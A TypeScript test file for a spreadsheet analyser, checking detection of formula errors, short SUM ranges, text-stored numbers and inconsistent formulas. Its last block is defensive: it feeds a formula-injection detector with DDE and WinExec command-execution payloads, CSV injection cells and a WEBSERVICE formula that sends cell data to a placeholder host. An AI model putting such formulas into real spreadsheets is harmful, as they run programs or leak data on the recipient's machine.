import { describe, expect, test } from 'vitest'
import { recalculate } from '../src/engine/recalculate.ts'
import { findInjections } from '../src/injection.ts'
import { findProblems } from '../src/problems/find.ts'
import type { Problem } from '../src/problems/problem.ts'
import { openWorkbook } from '../src/read/open.ts'
import { type Typed, workbookOf } from './build.ts'

async function problems(
  rows: readonly (readonly Typed[])[],
  more: Record<string, readonly (readonly Typed[])[]> = {},
): Promise<Problem[]> {
  return findProblems((await recalculate(workbookOf({ A: rows, ...more }))).workbook)
}

const brief = (found: readonly Problem[]): string[] => found.map(({ cell, code }) => `${cell} ${code}`)

describe('finding problems', () => {
  test('a sound sheet has none', async () => {
    expect(
      await problems([
        ['Item', 'Amount', 'Share', 'Running'],
        ['a', 10, '=B2/B$5', '=SUM(B$2:B2)'],
        ['b', 20, '=B3/B$5', '=SUM(B$2:B3)'],
        ['c', 30, '=B4/B$5', '=SUM(B$2:B4)'],
        ['Total', '=SUM(B2:B4)'],
        ['Best', '=MAX(B2:B4)'],
        ['Account', '007'],
        ['Average', '=AVERAGE(B2:B4)'],
      ]),
    ).toEqual([])
  })

  test('every error with where it comes from', async () => {
    const found = await problems([
      [
        '=1/A2',
        '=A1+1',
        '=SQRT(-1)',
        '=NOSUCH(1)',
        '="x"+1',
        '=MATCH(9,A2:A3,0)',
        { type: 'error', value: '#REF!', formula: '#REF!+1' },
      ],
      [0],
    ])
    expect(found.map(({ cell, sentence }) => `${cell} ${sentence.slice(0, sentence.indexOf(' ', 1))}`)).toEqual([
      'A1 #DIV/0!:',
      'B1 #DIV/0!',
      'C1 #NUM!:',
      'D1 #NAME?:',
      'E1 #VALUE!:',
      'F1 #N/A:',
      'G1 #REF!:',
    ])
    expect(found[0]).toMatchObject({ fix: { formula: 'IF(A2=0,0,1/A2)' } })
    expect(found[1]).toMatchObject({ from: { sheet: 'A', cell: 'A1' }, sentence: '#DIV/0! arrives here from A1.' })
  })

  test('a reference that is gone behind an IFERROR', async () => {
    expect(brief(await problems([['=IFERROR(#REF!,0)']]))).toEqual(['A1 broken_reference'])
  })

  test('numbers stored as text, among numbers or in a sum', async () => {
    const found = await problems([['Amount'], [10], ['20'], ['1,234.50'], [5], ['=SUM(A2:A5)'], ['Phone'], ['555']])
    expect(found.map(({ cell, fix }) => [cell, fix])).toEqual([
      ['A3', { type: 'number', value: 20 }],
      ['A4', { type: 'number', value: 1234.5 }],
    ])
  })

  test('a sum that stops a row short, down, up and across', async () => {
    const found = await problems([
      [1, '=SUM(A2:A3)'],
      [2],
      [3],
      [4],
      ['=SUM(A1:A3)'],
      [],
      [1, 2, 3, '=SUM(A7:B7)'],
      [2024],
      [5],
      [6],
      ['=SUM(A9:A10)'],
    ])
    expect(found.map(({ cell, code, fix }) => [cell, code, fix])).toEqual([
      ['B1', 'range_misses_cells', { formula: 'SUM(A1:A4)' }],
      ['A5', 'range_misses_cells', { formula: 'SUM(A1:A4)' }],
      ['D7', 'range_misses_cells', { formula: 'SUM(A7:C7)' }],
    ])
  })

  test('a sum on another sheet that stops short', async () => {
    const found = await problems([["=SUM('My data'!$B$1:$B$2)"]], {
      'My data': [
        ['a', 1],
        ['b', 2],
        ['c', 3],
      ],
    })
    expect(found).toMatchObject([{ cell: 'A1', fix: { formula: "SUM('My data'!$B$1:$B$3)" } }])
  })

  test('one formula unlike its neighbors, and a number typed over one', async () => {
    const found = await problems([
      [1, '=A1*2', '=A1+$A$1'],
      [2, '=A2*2', '=A2+$A$1'],
      [3, '=A3*3', '=A3+$A$1'],
      [4, '=A4*2', 99],
      [5, '=A5*2', '=A5+$A$1'],
    ])
    expect(found.map(({ cell, code, fix }) => [cell, code, fix])).toEqual([
      ['B3', 'inconsistent_formula', { formula: 'A3*2' }],
      ['C4', 'overwritten_formula', { formula: 'A4+$A$1' }],
    ])
  })
})

describe('formula injection', () => {
  const codes = (rows: readonly (readonly Typed[])[]): string[] =>
    findInjections(workbookOf({ A: rows })).map(({ cell, code }) => `${cell} ${code}`)

  test('formulas that reach out or run programs', () => {
    expect(
      codes([
        ['=HYPERLINK("http://x","y")', '=WEBSERVICE("http://x")', '=IMPORTXML("http://x","//a")', '=1+IMPORTDATA("x")'],
        [
          '=CALL("kernel32","WinExec","JCJ","calc",1)',
          '=REGISTER.ID("a","b")',
          '=EXEC("calc")',
          "=cmd|'/c calc'!A1",
          '=SUM("cmd|x!A1")',
        ],
      ]),
    ).toEqual([
      'A1 reaches_out',
      'B1 reaches_out',
      'C1 reaches_out',
      'D1 reaches_out',
      'A2 runs_programs',
      'B2 runs_programs',
      'C2 runs_programs',
      'D2 runs_programs',
    ])
  })

  test('a formula that hides behind a name', () => {
    const names = [
      { name: 'total', refersTo: 'WEBSERVICE("http://x?"&A!$A$1)' },
      { name: 'plain', refersTo: 'A!$A$1' },
    ]
    expect(findInjections({ ...workbookOf({ A: [[1, '=total']] }), names })).toMatchObject([
      { cell: 'total', code: 'reaches_out' },
    ])
  })

  test('text of a CSV that another program would run', () => {
    const csv = openWorkbook(new TextEncoder().encode('=1+1,@x,+cmd,-cmd,"\tx",-5,+49 170 123,a=b\n'))
    expect(findInjections(csv).map(({ cell }) => cell)).toEqual(['A1', 'B1', 'C1', 'D1', 'E1'])
  })
})
